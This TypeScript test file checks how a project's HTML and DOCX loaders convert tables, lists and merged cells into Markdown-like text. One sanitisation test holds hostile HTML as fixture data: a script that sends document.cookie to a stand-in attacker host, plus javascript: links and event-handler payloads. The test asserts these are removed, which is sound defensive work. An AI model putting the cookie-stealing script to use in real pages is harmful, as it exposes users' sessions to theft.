import { AlignmentType, Document, HeadingLevel, Packer, Paragraph, Table, TableCell, TableRow, VerticalMergeType, WidthType } from 'docx';
import { describe, expect, it } from 'vitest';
import { parseBlocks, toPlainText } from '../../src/text/markdown.ts';
import { loadDocx } from './docx.ts';
import { loadHtmlText } from './html.ts';
import { loadPlainText } from './text.ts';

const load = (html: string, path = '/site/page.html') => loadHtmlText({ path, text: html });
const allText = (html: string): string => load(html).sections.map((section) => section.text).join('\n\n');

describe('HTML loader keeps structure', () => {
  it('turns a table with <th> into a pipe table with its header row, bold and links kept', () => {
    const text = allText(`<table><thead><tr><th>Instance</th><th>vCPUs</th><th>Price</th></tr></thead>
      <tbody><tr><td>cn-standard-4</td><td>4</td><td><b>$0.096</b> <a href="https://example.com/p">per hour</a></td></tr></tbody></table>`);
    expect(text).toBe('| Instance | vCPUs | Price |\n| --- | --- | --- |\n| cn-standard-4 | 4 | **$0.096** [per hour](https://example.com/p) |');
  });

  it('expands merged cells so rows keep their width: colspan repeats a header, blank-fills a body cell; rowspan carries down', () => {
    const text = allText(`<table>
      <tr><th rowspan="2">Region</th><th colspan="2">Delivery</th></tr>
      <tr><th>Standard</th><th>Express</th></tr>
      <tr><td rowspan="2">Asia</td><td>5 days</td><td>2 days</td></tr>
      <tr><td>6 days</td><td>3 days</td></tr>
      <tr><td colspan="2">Other regions</td><td>on request</td></tr>
    </table>`);
    expect(text).toBe('| Region | Delivery Standard | Delivery Express |\n| --- | --- | --- |\n| Asia | 5 days | 2 days |\n| Asia | 6 days | 3 days |\n| Other regions |  | on request |');
  });

  it('takes the first row as header when it looks like one, else names the columns', () => {
    expect(allText('<table><tr><td>Plan</td><td>Price</td></tr><tr><td>Basic</td><td>$5</td></tr><tr><td>Plus</td><td>$9</td></tr></table>')).toBe('| Plan | Price |\n| --- | --- |\n| Basic | $5 |\n| Plus | $9 |');
    const keyValue = allText('<table><tr><td>Phone</td><td>Hotline for orders</td></tr><tr><td>Email</td><td>Support team</td></tr></table>');
    expect(keyValue).toBe('| Column 1 | Column 2 |\n| --- | --- |\n| Phone | Hotline for orders |\n| Email | Support team |');
  });

  it('keeps a table inside a list item: the list, the table, then the rest of the list numbered on', () => {
    const text = allText('<ol><li>Pick a plan<table><tr><th>Plan</th><th>Price</th></tr><tr><td>Basic</td><td>$5</td></tr></table></li><li>Pay</li></ol>');
    expect(parseBlocks(text).map((block) => block.kind)).toEqual(['list', 'table', 'list']);
    expect(text).toBe('1. Pick a plan\n\n| Plan | Price |\n| --- | --- |\n| Basic | $5 |\n\n2. Pay');
  });

  it('keeps nested lists ten levels deep', () => {
    let html = '';
    for (let depth = 10; depth >= 1; depth--) html = `<ul><li>level ${depth}${html}</li></ul>`;
    const [block] = parseBlocks(allText(html));
    expect(block?.kind === 'list' && block.items.map((item) => `${item.depth}:${item.text}`)).toEqual(Array.from({ length: 10 }, (_, depth) => `${depth}:level ${depth + 1}`));
  });

  it('keeps text that looks like Markdown literal', () => {
    const text = allText('<p>- not a list</p><p>1. not a step</p><p>**not bold** and [x](https://a.b)</p>');
    expect(parseBlocks(text).every((block) => block.kind === 'paragraph')).toBe(true);
    expect(toPlainText(text)).toBe('- not a list\n\n1. not a step\n\n**not bold** and [x](https://a.b)');
  });

  it('refuses a page of headings only (INGEST_NO_TEXT), like every loader', () => {
    expect(() => load('<html><body><h1>Help</h1><h2>Orders</h2><h2>Returns</h2></body></html>', '/site/outline.html')).toThrow(/No text found: outline\.html \(only headings \(3\), no text under them\)/);
    expect(() => loadPlainText({ path: '/docs/outline.txt', text: 'Orders\n======\n\nReturns\n-------\n' })).toThrow(/only headings \(2\)/);
  });

  it('keeps scripts, images and javascript: links inert: script content dropped, alt text only, link text only', () => {
    const text = allText(`<h1>Help</h1><p>Call us <a href="javascript:alert(1)">now</a> or <a href=" JavaScript:alert(2)">later</a>
      or <a href="https://example.com/contact" onclick="alert(3)">online</a>.</p>
      <script>fetch("https://evil.example/?c=" + document.cookie)</script><img src="x" onerror="alert(4)" alt="Support desk photo">
      <iframe src="https://evil.example"></iframe><p onmouseover="alert(5)">Hours: 9 to 5.</p>`);
    expect(text).not.toMatch(/javascript|alert|cookie|evil|onerror|onclick|<img|<script/i);
    expect(text).toBe('Call us now or later or [online](https://example.com/contact).\n\nSupport desk photo\n\nHours: 9 to 5.');
  });
});

describe('DOCX loader keeps structure', () => {
  it('keeps Word tables with their header row and merged cells, and Word lists', async () => {
    const cell = (text: string, options: Partial<ConstructorParameters<typeof TableCell>[0]> = {}) => new TableCell({ children: [new Paragraph(text)], ...options });
    const word = new Document({
      numbering: { config: [{ reference: 'steps', levels: [{ level: 0, format: 'decimal', text: '%1.', alignment: AlignmentType.START }] }] },
      sections: [
        {
          children: [
            new Paragraph({ text: 'Warranty', heading: HeadingLevel.HEADING_1 }),
            new Paragraph({ text: 'Send the product back', numbering: { reference: 'steps', level: 0 } }),
            new Paragraph({ text: 'Wait for the repair', numbering: { reference: 'steps', level: 0 } }),
            new Table({
              width: { size: 100, type: WidthType.PERCENTAGE },
              rows: [
                new TableRow({ tableHeader: true, children: [cell('Product'), cell('Years')] }),
                new TableRow({ children: [cell('Lamp', { verticalMerge: VerticalMergeType.RESTART }), cell('2')] }),
                new TableRow({ children: [cell('', { verticalMerge: VerticalMergeType.CONTINUE }), cell('3')] }),
                new TableRow({ children: [cell('Speakers and remotes', { columnSpan: 2 })] }),
              ],
            }),
          ],
        },
      ],
    });
    const document = await loadDocx({ path: '/docs/warranty.docx', bytes: await Packer.toBuffer(word) });
    expect(document.sections).toHaveLength(1);
    expect(document.sections[0]?.headingPath).toEqual(['Warranty']);
    const blocks = parseBlocks(document.sections[0]?.text ?? '');
    expect(blocks[0]).toEqual({ kind: 'list', ordered: true, items: [{ text: 'Send the product back', depth: 0, number: 1 }, { text: 'Wait for the repair', depth: 0, number: 2 }] });
    expect(blocks[1]).toEqual({ kind: 'table', header: ['Product', 'Years'], rows: [['Lamp', '2'], ['Lamp', '3'], ['Speakers and remotes', '']] });
  });
});
